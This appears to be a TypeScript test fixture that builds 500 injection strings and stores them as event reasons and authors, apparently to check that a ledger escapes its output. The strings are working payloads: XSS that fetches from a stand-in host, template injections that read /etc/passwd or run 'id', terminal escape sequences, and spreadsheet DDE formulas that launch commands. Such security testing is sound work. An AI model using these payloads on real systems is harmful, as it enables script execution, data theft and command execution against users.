/**
 * Strings that want to run, to fetch, to be filled in, to steer a terminal or to be calculated, behind what would break
 * out of where they stand. Out: 500, in an order in which neighbours are of different kinds; and a ledger that holds
 * them as reasons.
 */
import type { Store } from '../../src/store/open.js'
import { recordEvent } from '../../src/subscribers/event-store.js'

/** Leaves a mark, asks and speaks: whoever looks sees one of them. */
const RUNS = "document.documentElement.setAttribute('data-hit','1');fetch('https://evil.example/hit');alert(1)"
const AWAY = 'https://evil.example/x'

const KINDS: readonly (readonly string[])[] = [
  [
    `<script>${RUNS}</script>`,
    `<script src=${AWAY}.js></script>`,
    `<ScRiPt/x>${RUNS}</sCrIpT>`,
    `<scr<script>ipt>${RUNS}</scr</script>ipt>`,
    `<iframe srcdoc="&lt;script&gt;parent.${RUNS}&lt;/script&gt;"></iframe>`,
    `<a href="javascript:${RUNS}">x</a>`,
    `[x](javascript:${RUNS})`,
    `javascript:${RUNS}//`,
    `<form action="${AWAY}"><button>x</button></form><base href="https://evil.example/">`,
    `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  ],
  [
    `<img src=x onerror="${RUNS}">`,
    `<svg onload="${RUNS}"></svg>`,
    `<svg><script>${RUNS}</script></svg>`,
    `<svg><animate onbegin="${RUNS}" attributeName=x dur=1s>`,
    `<svg><use href="${AWAY}.svg#x"/></svg>`,
    `<svg><a xlink:href="javascript:${RUNS}"><text>x</text></a></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${RUNS}">`,
    `<details open ontoggle="${RUNS}">`,
    `<link rel=stylesheet href=${AWAY}.css><style>@import url(${AWAY}.css);</style>`,
    `<video><source onerror="${RUNS}"></video><object data="${AWAY}"></object>`,
  ],
  [
    `{{ '<script>${RUNS}</script>' }}`,
    "{{7*7}}{{constructor.constructor('return process')().exit()}}",
    "{% include '/etc/passwd' %}{% raw %}",
    `$${'{7*7}'}$${"{require('fs')}"}#{7*7}`,
    "<%= 7*7 %><% system('id') %>",
    "{{ site.__proto__ }}{% assign x = '<img src=x onerror=alert(1)>' %}{{ x }}",
    '{{< ref "x" >}}{{% include "/etc/passwd" %}}',
    '__proto__ constructor prototype {{ "a" | times: 1e9 }}',
    `{% for i in (1..100000) %}${AWAY}{% endfor %}`,
    `]]><script>${RUNS}</script><![CDATA[{{x}}`,
  ],
  [
    '\u001b[2J\u001b[H\u001b]0;owned\u0007',
    `\u001b]8;;${AWAY}\u001b\\click\u001b]8;;\u001b\\`,
    '\u001b[31mError: everything is lost\u001b[0m\r\n',
    '\u009b2J\u0090q\u009c\u001bc',
    'ok\r\nSubject: owned\r\n\r\nBody\u001b[1A',
    '\u202egnp.exe\u2066\u2069\u200b\u001b[8mhidden',
    '\u001bP+q544e\u001b\\ \u0000\u0008\u0008',
    '\u001b]52;c;b3duZWQ=\u0007',
    `\u001b[38;5;1m<script>${RUNS}</script>\u001b[0m`,
    '\ufeff\ufffe\u001b[?1049h\u2028\u2029',
  ],
  [
    "=cmd|'/c calc'!A1",
    `=HYPERLINK("${AWAY}","x")`,
    `+1+IMPORTXML("${AWAY}","//a")`,
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|calc!A0',
    '\t=1+1',
    '=1+1";=1+1;"',
    `=WEBSERVICE("${AWAY}")`,
    "'=1+1",
    `=IMAGE("${AWAY}.png")<script>${RUNS}</script>`,
  ],
]

/** What ends a text, an attribute, a comment, an element that holds text alone. */
const BREAKS = ['', '">', "'>", '</title>', '</textarea>', '--><!-- ', '</style>', '\\"', '</script>', '&#34;>']

export function hostileStrings(): string[] {
  const strings: string[] = []
  for (const [place, before] of BREAKS.entries())
    for (let index = 0; index < 10; index += 1)
      for (const [number, kind] of KINDS.entries()) {
        const text = kind[(index + place) % 10] ?? ''
        // A formula is one at the beginning of its field alone.
        strings.push(number === 4 ? `${text}${before}` : `${before}${text}`)
      }
  return strings
}

/** Each as the reason of an event, and as who said it. */
export async function bulkEvents(store: Store, strings: readonly string[]): Promise<void> {
  await store.transaction(async (transaction) => {
    for (const text of strings)
      await recordEvent(transaction, { action: 'hold', key: text }, { by: text, reason: text, via: 'console' }, 0)
  })
}
